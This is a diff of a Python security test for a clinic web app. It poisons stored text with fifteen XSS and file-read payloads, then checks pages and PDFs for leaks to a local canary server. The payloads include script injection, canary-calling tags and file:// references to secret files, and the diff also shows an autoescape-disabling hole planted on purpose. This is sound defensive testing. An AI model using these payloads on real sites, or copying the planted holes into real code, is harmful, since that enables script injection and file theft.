@@ -1,19 +1,22 @@
 """Fifteen payloads in every word on record, every page in a real Chromium, papers made anew.
 
-No dialog, no request to anywhere, nothing read from the disk. The same eyes look at an app whose
-templates do not escape, and must see it.
+No dialog, no request to anywhere, nothing read from the disk. The same eyes look at three holes
+opened on purpose (``holes.py``), and must name each.
 """
 
 import socket
 import threading
-from collections.abc import Callable
+from collections.abc import Iterator, Sequence
 from contextlib import closing
 from io import BytesIO
 from pathlib import Path
+from typing import cast
 
 from flask import Flask
 from playwright.sync_api import Browser
 from pypdf import PdfReader
+from pypdf.errors import PyPdfError
+from pypdf.generic import StreamObject
 
 from clinic.app.schema import upgrade
 from clinic.core.database import db
@@ -28,10 +31,18 @@ from tests.pages.practice import Practice, fill
 from tests.pages.states import STATES, State
 from tests.people import actor, make_practice
 from tests.reader import Reader
+from tests.trust.full.holes import HOLES, Hole, Spoil, sound
 from tests.trust.full.poison import poison
 from tests.trust.full.progress import Progress
 
 SECRET = "what only this computer may know"
+# As words that a paper may carry along, and as a picture that it may show.
+SECRET_FILES = {
+    "secret.txt": SECRET,
+    "secret.svg": f"""\
+<svg xmlns="http://www.w3.org/2000/svg" width="400" height="40"><text y="20">{SECRET}</text></svg>
+""",
+}
 PAYLOADS = (
     "<script>alert(1)</script>",
     '"><script src="{canary}/a.js"></script>',
@@ -44,7 +55,7 @@ PAYLOADS = (
     "<style>@import url({canary}/d.css);*{{background:url({canary}/e)}}</style>",
     '<link rel="stylesheet" href="{canary}/f.css"><link rel=attachment href="file://{secret}">',
     '<meta http-equiv="refresh" content="0;url={canary}/g"><base href="{canary}/">',
-    '<object data="file://{secret}"></object><embed src="file://{secret}">',
+    '<object data="file://{picture}"></object><embed src="file://{picture}">',
     '<form action="{canary}/h"><button autofocus>Save</button></form></form></textarea></title>',
     "+ADw-script+AD4-alert(1)+ADw-/script+AD4-\u2028\u202e%3Cscript%3Ealert(1)%3C/script%3E",
     "`\"'--><!--<![CDATA[</script><script>alert(1)//]]>",
@@ -52,7 +63,7 @@ PAYLOADS = (
 
 
 def run(progress: Progress, scratch: Path) -> None:
-    """Each round one payload; in the first also the planted hole."""
+    """Each round one payload; in the first also the planted holes."""
     whole = filled(scratch / "whole")
     with start_chromium() as chromium, Canary() as canary:
         for number, _chance in progress.rounds():
@@ -61,12 +72,11 @@ def run(progress: Progress, scratch: Path) -> None:
             for fault in faults:
                 progress.fault(fault)
             if number == 0:
-                planted = look(
-                    Progress("planted", 1, 0), chromium, canary, scratch / "hole", whole, 0, unsafe
-                )
-                progress.count("planted_holes_seen", bool(planted))
-                if not planted:
-                    progress.fault("templates that do not escape were not noticed")
+                for hole in HOLES:
+                    is_seen = see_hole(hole, chromium, canary, scratch / hole.name, whole)
+                    progress.count("planted_holes_seen", is_seen)
+                    if not is_seen:
+                        progress.fault(f"{hole.name} was not noticed")
 
 
 def filled(folder: Path) -> tuple[bytes, dict[str, str]]:
@@ -89,30 +99,41 @@ def look(
     folder: Path,
     whole: tuple[bytes, dict[str, str]],
     number: int,
-    spoil: Callable[[Flask], None] = lambda _app: None,
+    *,
+    spoil: Spoil = sound,
+    states: Sequence[State] | None = None,
 ) -> list[str]:
-    """Poison a copy of the practice with one payload and look at all of it."""
+    """Poison a copy of the practice with one payload and look at all of it, or at some states."""
     folder.mkdir()
-    (folder / "secret.txt").write_text(SECRET)
+    for name, held in SECRET_FILES.items():
+        (folder / name).write_text(held)
     (folder / "clinic.db").write_bytes(whole[0])
     app = make_app(folder)
-    spoil(app)
-    payload = PAYLOADS[number % len(PAYLOADS)]
-    for sign, value in (("{canary}", canary.address), ("{secret}", str(folder / "secret.txt"))):
-        payload = payload.replace(sign, value)
+    payload = PAYLOADS[number % len(PAYLOADS)].replace("{canary}", canary.address)
+    for sign, name in (("{secret}", "secret.txt"), ("{picture}", "secret.svg")):
+        payload = payload.replace(sign, str(folder / name))
     progress.count("words_poisoned", poison(folder / "clinic.db", payload))
-    faults = [*_pages(progress, chromium, app, whole[1]), *_papers(progress, app, whole[1])]
+    looked_at = looked_at_states() if states is None else states
+    with spoil(app):
+        faults = _pages(progress, chromium, app, whole[1], looked_at)
+        faults += _papers(progress, app, whole[1])
     faults += [f"the canary was asked: {asked}" for asked in canary.take()]
     with app.app_context():
         db.engine.dispose()
     return [f"payload {number}: {fault}" for fault in faults]
 
 
-def _pages(progress: Progress, chromium: Browser, app: Flask, ids: dict[str, str]) -> list[str]:
+def _pages(
+    progress: Progress,
+    chromium: Browser,
+    app: Flask,
+    ids: dict[str, str],
+    states: Sequence[State],
+) -> list[str]:
     faults: list[str] = []
     with serve(app) as address:
         windows = Windows(chromium, Practice(app, ids=ids), {}, address)
-        for state in filter(_is_looked_at, STATES):
+        for state in states:
             with windows.reach(state) as screen:
                 progress.count("pages")
                 faults += [f"{state}: {fault}" for fault in screen.faults]
@@ -120,9 +141,11 @@ def _pages(progress: Progress, chromium: Browser, app: Flask, ids: dict[str, str
     return faults
 
 
-def _is_looked_at(state: State) -> bool:
+def looked_at_states() -> list[State]:
     """Pages as they open: what is sent would change the practice for the pages after it."""
-    return state.sends is None and state.who not in ("founder", "away")
+    return [
+        state for state in STATES if state.sends is None and state.who not in ("founder", "away")
+    ]
 
 
 def _papers(progress: Progress, app: Flask, ids: dict[str, str]) -> list[str]:
@@ -141,16 +164,45 @@ def _papers(progress: Progress, app: Flask, ids: dict[str, str]) -> list[str]:
     faults = [] if note.status_code == 200 else [f"no paper of the note: {note.status}"]
     for content in (*(row[0] for row in kept), note.get_data()):
         progress.count("papers")
-        words = "".join(page.extract_text() for page in PdfReader(BytesIO(content)).pages)
-        if SECRET in words:
+        if gives_away(content):
             faults.append("a paper says what only this computer may know")
     return faults
 
 
-def unsafe(app: Flask) -> None:
-    """The planted hole: templates that do not escape."""
-    app.jinja_env.bytecode_cache = None
-    app.jinja_env.autoescape = False
+def gives_away(content: bytes) -> bool:
+    """Whether a paper says the secret, or carries it along: a file inside it is on no page."""
+    reader = PdfReader(BytesIO(content))
+    words = "".join(page.extract_text() for page in reader.pages)
+    if SECRET in " ".join(words.split()):
+        return True
+    return any(SECRET.encode() in stream for stream in (content, *_streams(reader)))
+
+
+def _streams(reader: PdfReader) -> Iterator[bytes]:
+    """Everything packed into a paper: pages, pictures, fonts, attached files."""
+    for number in range(1, cast("int", reader.trailer["/Size"])):
+        held = reader.get_object(number)
+        if isinstance(held, StreamObject):
+            try:
+                yield held.get_data()
+            except (PyPdfError, NotImplementedError):  # a picture packed in a way of its own
+                yield held._data
+
+
+def see_hole(
+    hole: Hole,
+    chromium: Browser,
+    canary: "Canary",
+    folder: Path,
+    whole: tuple[bytes, dict[str, str]],
+) -> bool:
+    """Whether this very hole is noticed, and not only that something is wrong."""
+    states = [state for state in looked_at_states() if state.who == "therapist"][: hole.pages]
+    aside = Progress("planted", 1, 0)
+    faults = look(
+        aside, chromium, canary, folder, whole, hole.payload, spoil=hole.spoil, states=states
+    )
+    return any(hole.seen in fault for fault in faults)
 
 
 class Canary:
